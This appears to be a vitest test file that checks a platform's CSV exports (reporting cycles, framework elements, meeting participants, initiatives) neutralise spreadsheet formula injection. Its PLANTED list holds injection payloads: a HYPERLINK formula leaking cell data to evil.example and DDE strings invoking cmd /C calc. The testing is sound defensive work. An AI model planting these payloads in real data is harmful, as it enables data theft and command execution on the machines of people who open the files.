import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DateTime } from 'luxon';
import { testPlatform, type TestPlatform } from './support/platform.js';
import { Client, makeAccount, signedIn } from './support/client.js';
import { meetingBody } from './support/meetings.js';
import { parseCsv } from './support/csv.js';

/**
 * #12, item 2: every CSV the platform serves is safe to open in a spreadsheet. A focal point, a
 * delegation or the Secretariat plants formulas in what it types; every export that carries the text
 * gives it back with a leading apostrophe, and no cell of any CSV starts like a formula.
 */

/** What an attacker types: each marked so that its cell can be found in the export. */
const PLANTED = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Open the annex") #m0',
  "+cmd|' /C calc'!A0 #m1",
  '@SUM(1+1)*cmd|\' /C calc\'!A0 #m2',
  '\t=1+1 #m3',
  '\r=1+1 #m4',
  "-2+3+cmd|' /C calc'!A0 #m5",
];
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

let p: TestPlatform;
let secretariat: Client;
let focal: Client;
const anon = () => new Client(p.app);

beforeAll(async () => {
  p = await testPlatform();
  secretariat = await signedIn(p.app, await makeAccount(p.ctx, p.app, { role: 'secretariat' }));
  focal = await signedIn(p.app, await makeAccount(p.ctx, p.app, { role: 'focal_point', state: 'CHL' }));
});
afterAll(() => p.close());

/** Checks a CSV answer: no cell starts like a formula, and each planted text is there, neutralised. */
function expectNeutralised(res: { status: number; headers: Record<string, unknown>; text: string }, planted: readonly string[]) {
  expect(res.status).toBe(200);
  expect(res.headers['content-type']).toMatch(/^text\/csv/);
  const cells = parseCsv(res.text).flat();
  for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
  for (const value of planted) {
    const marker = value.slice(-3);
    const cell = cells.find((c) => c.endsWith(marker));
    expect(cell, `${JSON.stringify(value)} is in the export`).toBeDefined();
    // What was kept (a title is trimmed when saved), with an apostrophe before it: nothing else is changed.
    expect([`'${value}`, `'${value.trim()}`]).toContain(cell);
  }
}

describe('the cycle’s CSV (reporting)', () => {
  it('neutralises formulas planted in a State’s answers, in the published export and the Secretariat’s summary', async () => {
    const future = DateTime.utc().plus({ days: 30 }).toFormat("yyyy-MM-dd'T'HH:mm");
    const cycle = await secretariat.post('/api/v1/reporting/cycles', { title: 'Cycle', periodStart: '2026-01-01', periodEnd: '2026-12-31', deadlineLocal: future, zone: 'UTC' });
    const report = (await focal.post(`/api/v1/reporting/cycles/${cycle.body.id}/reports`, { visibility: 'public' })).body.id;
    const answers = [
      ['international-law', { status: 'implemented', measures: PLANTED[0], challenges: PLANTED[1], needs: [{ description: PLANTED[2], codes: [] }] }],
      ['norm:norm-13c', { status: 'planned', measures: PLANTED[3], challenges: PLANTED[4] }],
      ['contacts', { contacts: PLANTED[5] }],
    ] as const;
    for (const [key, answer] of answers) {
      const saved = await focal.put(`/api/v1/reporting/reports/${report}/sections/${key}`, { answer }, { 'if-match': '"0"' });
      expect(saved.status).toBe(200);
    }
    expect((await focal.post(`/api/v1/reporting/reports/${report}/submissions`)).status).toBe(201);
    expectNeutralised(await anon().get(`/api/v1/reporting/cycles/${cycle.body.id}/export?format=csv`), PLANTED);
    expectNeutralised(await secretariat.get(`/api/v1/reporting/cycles/${cycle.body.id}/export?format=csv&scope=secretariat`), PLANTED);
  });
});

describe('the framework’s CSV', () => {
  it('neutralises formulas in a recorded title and text', async () => {
    for (const [i, language] of (['fr', 'es', 'ru'] as const).entries()) {
      const element = await secretariat.get('/api/v1/framework/elements/norm-13a');
      const res = await secretariat.post(
        '/api/v1/framework/elements/norm-13a/versions',
        { language, title: PLANTED[2 * i], text: PLANTED[2 * i + 1], status: 'summary' },
        { 'if-match': element.headers.etag as string },
      );
      expect(res.status).toBe(201);
    }
    expectNeutralised(await anon().get('/api/v1/framework/export?format=csv'), PLANTED);
  });
});

describe('the list of participants as CSV (meetings)', () => {
  it('neutralises formulas in the names and titles a delegation registers', async () => {
    const meeting = await secretariat.post('/api/v1/meetings', meetingBody());
    const id = meeting.body.id;
    const open = await secretariat.post(`/api/v1/meetings/${id}/status`, { status: 'registration-open' }, { 'if-match': meeting.headers.etag as string });
    expect(open.status).toBe(200);
    const participants = [
      { role: 'head', name: PLANTED[0], title: PLANTED[1] },
      { role: 'representative', name: PLANTED[2], title: PLANTED[3] },
      { role: 'adviser', name: PLANTED[4], title: PLANTED[5] },
    ];
    const registered = await focal.put(`/api/v1/meetings/${id}/registrations/states/CHL`, { contactEmail: 'mission@example.org', participants });
    expect(registered.status).toBe(200);
    const confirmed = await secretariat.post(`/api/v1/meetings/${id}/registrations/${registered.body.id}/confirm`, {}, { 'if-match': `"${registered.body.version}"` });
    expect(confirmed.status).toBe(200);
    const published = await secretariat.put(`/api/v1/meetings/${id}/publication`, { participants: true }, { 'if-match': open.headers.etag as string });
    expect(published.status).toBe(200);
    expectNeutralised(await anon().get(`/api/v1/meetings/${id}/participants?format=csv`), PLANTED);
  });
});

describe('the registry of initiatives as CSV', () => {
  it('neutralises formulas in the names, owner and contact an initiative is proposed with', async () => {
    const proposed = await focal.post('/api/v1/initiatives', {
      name: { en: PLANTED[0], fr: PLANTED[1], es: PLANTED[2] },
      owner: { en: PLANTED[3], ru: PLANTED[4] },
      kind: 'regional-cbms',
      elements: ['global-cbm-5'],
      states: ['CHL'],
      contact: PLANTED[5],
      links: [],
    });
    expect(proposed.status).toBe(201);
    expect((await secretariat.post(`/api/v1/initiatives/${proposed.body.id}/publish`)).status).toBe(200);
    expectNeutralised(await anon().get('/api/v1/initiatives/export?format=csv'), PLANTED);
  });
});
